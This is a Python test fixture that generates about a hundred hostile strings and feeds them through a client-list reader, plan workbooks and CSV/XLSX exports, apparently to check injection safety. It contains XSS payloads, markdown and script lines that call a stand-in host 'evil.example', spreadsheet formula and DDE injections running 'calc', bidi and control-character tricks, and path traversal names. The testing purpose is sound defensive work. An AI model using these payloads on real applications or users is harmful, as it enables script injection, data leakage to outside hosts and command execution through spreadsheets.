"""A hundred texts that want to be more than text, each asking a place that nobody may ask."""

from functools import cache
from itertools import cycle, islice

from lib.clients.model import ClientList
from lib.exports.plan_workbook import plan_file
from lib.plan.compare import Scenario
from lib.plan.plan import Plan
from lib.plan.services import ONCE, Service, ServiceCatalogue
from lib.plan.team import Person, Team
from lib.reading.clients_from_rows import read_file
from lib.texts import Texts
from tests.office import DAY
from tests.reading.files import Rows, csv, xlsx

ELSEWHERE = "evil.example"
_MARKDOWN = (
    "![{n}](http://{e}/{n}.png)",
    "![](//{e}/{n})",
    "[{n}](http://{e}/{n})",
    "[![{n}](//{e}/{n}.png)](//{e})",
    "<http://{e}/{n}>",
    "http://{e}/{n}",
    "https://{e}/{n}",
    "www.{e}/{n}",
    "WWW.{e}",
    "http:\\//{e}/{n}",
    "mail@{e}",
    "<img src=//{e}/{n}>",
    "<img src=x onerror=alert({n})>",
    "<a href=//{e}>{n}</a>",
    "<script src=//{e}/{n}></script>",
    "<style>@import '//{e}/{n}'</style>",
    "<svg/onload=fetch('//{e}/{n}')>",
    "<iframe src=//{e}/{n}>",
    "&lt;b&gt;{n}",
    "&#60;img src=//{e}/{n}&#62;",
    '"><img src=//{e}/{n}>',
    "'><img src=//{e}/{n}>",
    ":material/delete: {n}",
    ":red[{n}]",
    ":red-background[{n}]",
    ":streamlit: {n}",
    ":smile: {n}",
    ":small[{n}]",
    "$x_{n}$",
    "$$\\frac{{1}}{{{n}}}$$",
    "**{n}**",
    "__{n}__",
    "_{n}_",
    "~~{n}~~",
    "`{n}`",
    "# {n}",
    "- {n}",
    "1. {n}",
    "> {n}",
    "| {n} | b |",
    "[^{n}]",
    "[x]: //{e}/{n}",
    "a -- {n} --> b",
    "{{{n}}}",
    "{{0.__class__}} {n}",
    "%s %(n)s {n}",
    "line\n\n![](//{e}/{n})",
    "tab\t{n}",
    "{n}\\",
    "javascript:alert({n})",
    "data:text/html,<script>{n}</script>",
)
_FORMULAS = (
    "=1+{n}",
    '=HYPERLINK("http://{e}/{n}")',
    "=cmd|' /C calc'!A{n}",
    '=WEBSERVICE("http://{e}/{n}")',
    "+1+{n}",
    "-1-{n}",
    "@SUM({n})",
    "\t=1+{n}",
    "\r=1+{n}",
    "\n=1+{n}",
    " =1+{n}",
    "＝1+{n}",
    "＋1+{n}",
    "－1-{n}",
    "＠SUM({n})",
    "\u200b=1+{n}",
    "\u200e=1+{n}",
    "\ufeff=1+{n}",
    "\u2060+1+{n}",
    "\u00ad=1+{n}",
    "\u00a0=1+{n}",
    "\u2028=1+{n}",
    "\x1f=1+{n}",
    "'=1+{n}",
    '"=1+{n}',
    ";=1+{n}",
    ",=1+{n}",
    "a;=1+{n}",
    'a",=1+{n}',
    "{{=1+{n}}}",
    'DDE("cmd";"/C calc";"{n}")',
)
_MARKS = (
    "\u202egnp.{n}",
    "\u2066{n}\u2069",
    "\u200f{n}",
    "a\u0000{n}",
    "\x07{n}",
    "\x1b[31m{n}",
    "\x7f{n}",
    "\u0085{n}",
    "\ud83d\ude00 {n}".encode("utf-16", "surrogatepass").decode("utf-16"),
    "e\u0301\u0301\u0301 {n}",
    "\ufffe{n}",
    "&A&P {n}",
    "[Red]{n}",
    "../../{n}",
    "C:\\{n}",
    "CON",
    "{n}:stream",
    "A1!{n}",
    "palmares",
)
TEXTS = tuple(
    pattern.format(n=number, e=ELSEWHERE)
    for number, pattern in enumerate((*_MARKDOWN, *_FORMULAS, *_MARKS), 101)
)
"""Each another one."""
SHORT = tuple(text for text in TEXTS if len(text) <= 24 and text == text.strip())
"""Those that the name of a tier can be."""


FILE_NAME = "![](//evil.example) =1+1 :red[a] <img src=//evil.example>.csv"


def rows() -> Rows:
    """A list whose names, people, segments, notes and headings are such texts; some rows have no amount."""
    shifted = [*TEXTS[40:], *TEXTS[:40]]
    headings = ["Client", "Chiffre d'affaires", "Commercial", "Segment", TEXTS[0], TEXTS[51]]
    lines = [
        [text, 1_000 - place, shifted[place], shifted[-place], shifted[place - 9], "x"]
        for place, text in enumerate(TEXTS)
    ]
    refused = [[text, text, "", "", "", ""] for text in TEXTS[::9]]
    return [headings, *lines, *refused]


def workbook() -> bytes:
    """The list as a workbook, without the marks that no workbook can hold."""
    sound = [[_sound(cell) if isinstance(cell, str) else cell for cell in row] for row in rows()]
    return xlsx(sound, sheet="=1+1 <img src=x> &A $x$ _a_")


def text_file() -> bytes:
    """The list as CSV. With a zero byte it would be no text."""
    sound = [[cell.replace("\0", "") if isinstance(cell, str) else cell for cell in row] for row in rows()]
    return csv(sound)


def plans(tiers: int = 5) -> list[Plan]:
    """Plans that between them have all the short texts as names of tiers, of services and of people."""
    made = []
    for first in range(0, len(SHORT), tiers):
        names = tuple(islice(cycle(SHORT), first, first + tiers))
        others = tuple(islice(cycle(TEXTS), first, first + tiers))
        services = tuple(
            Service(_sound(text), 30, "manager", times=(4 * ONCE,) * tiers, automated=(0,) * tiers)
            for text in others
        )
        people = tuple(Person(_sound(text)) for text in others[:3])
        made.append(Plan(tier_names=names, services=ServiceCatalogue(services), team=Team(people)))
    return made


def scenarios(plan: Plan) -> tuple[Scenario, ...]:
    """Scenarios whose names and notes are such texts."""
    return tuple(Scenario(text, plan, note) for text, note in zip(TEXTS[:60:6], TEXTS[60:], strict=False))


def plan_of_another(plan: Plan) -> bytes:
    """A plan workbook that holds all of them, for somebody else to open."""
    return plan_file(clients(), plan, Texts("fr"), DAY, scenarios(plan))


@cache
def clients() -> ClientList:
    """The list, read."""
    return read_file(text_file(), FILE_NAME)


def _sound(text: str) -> str:
    return "".join(mark for mark in text if mark.isprintable() or mark in "\t\n") or "x"
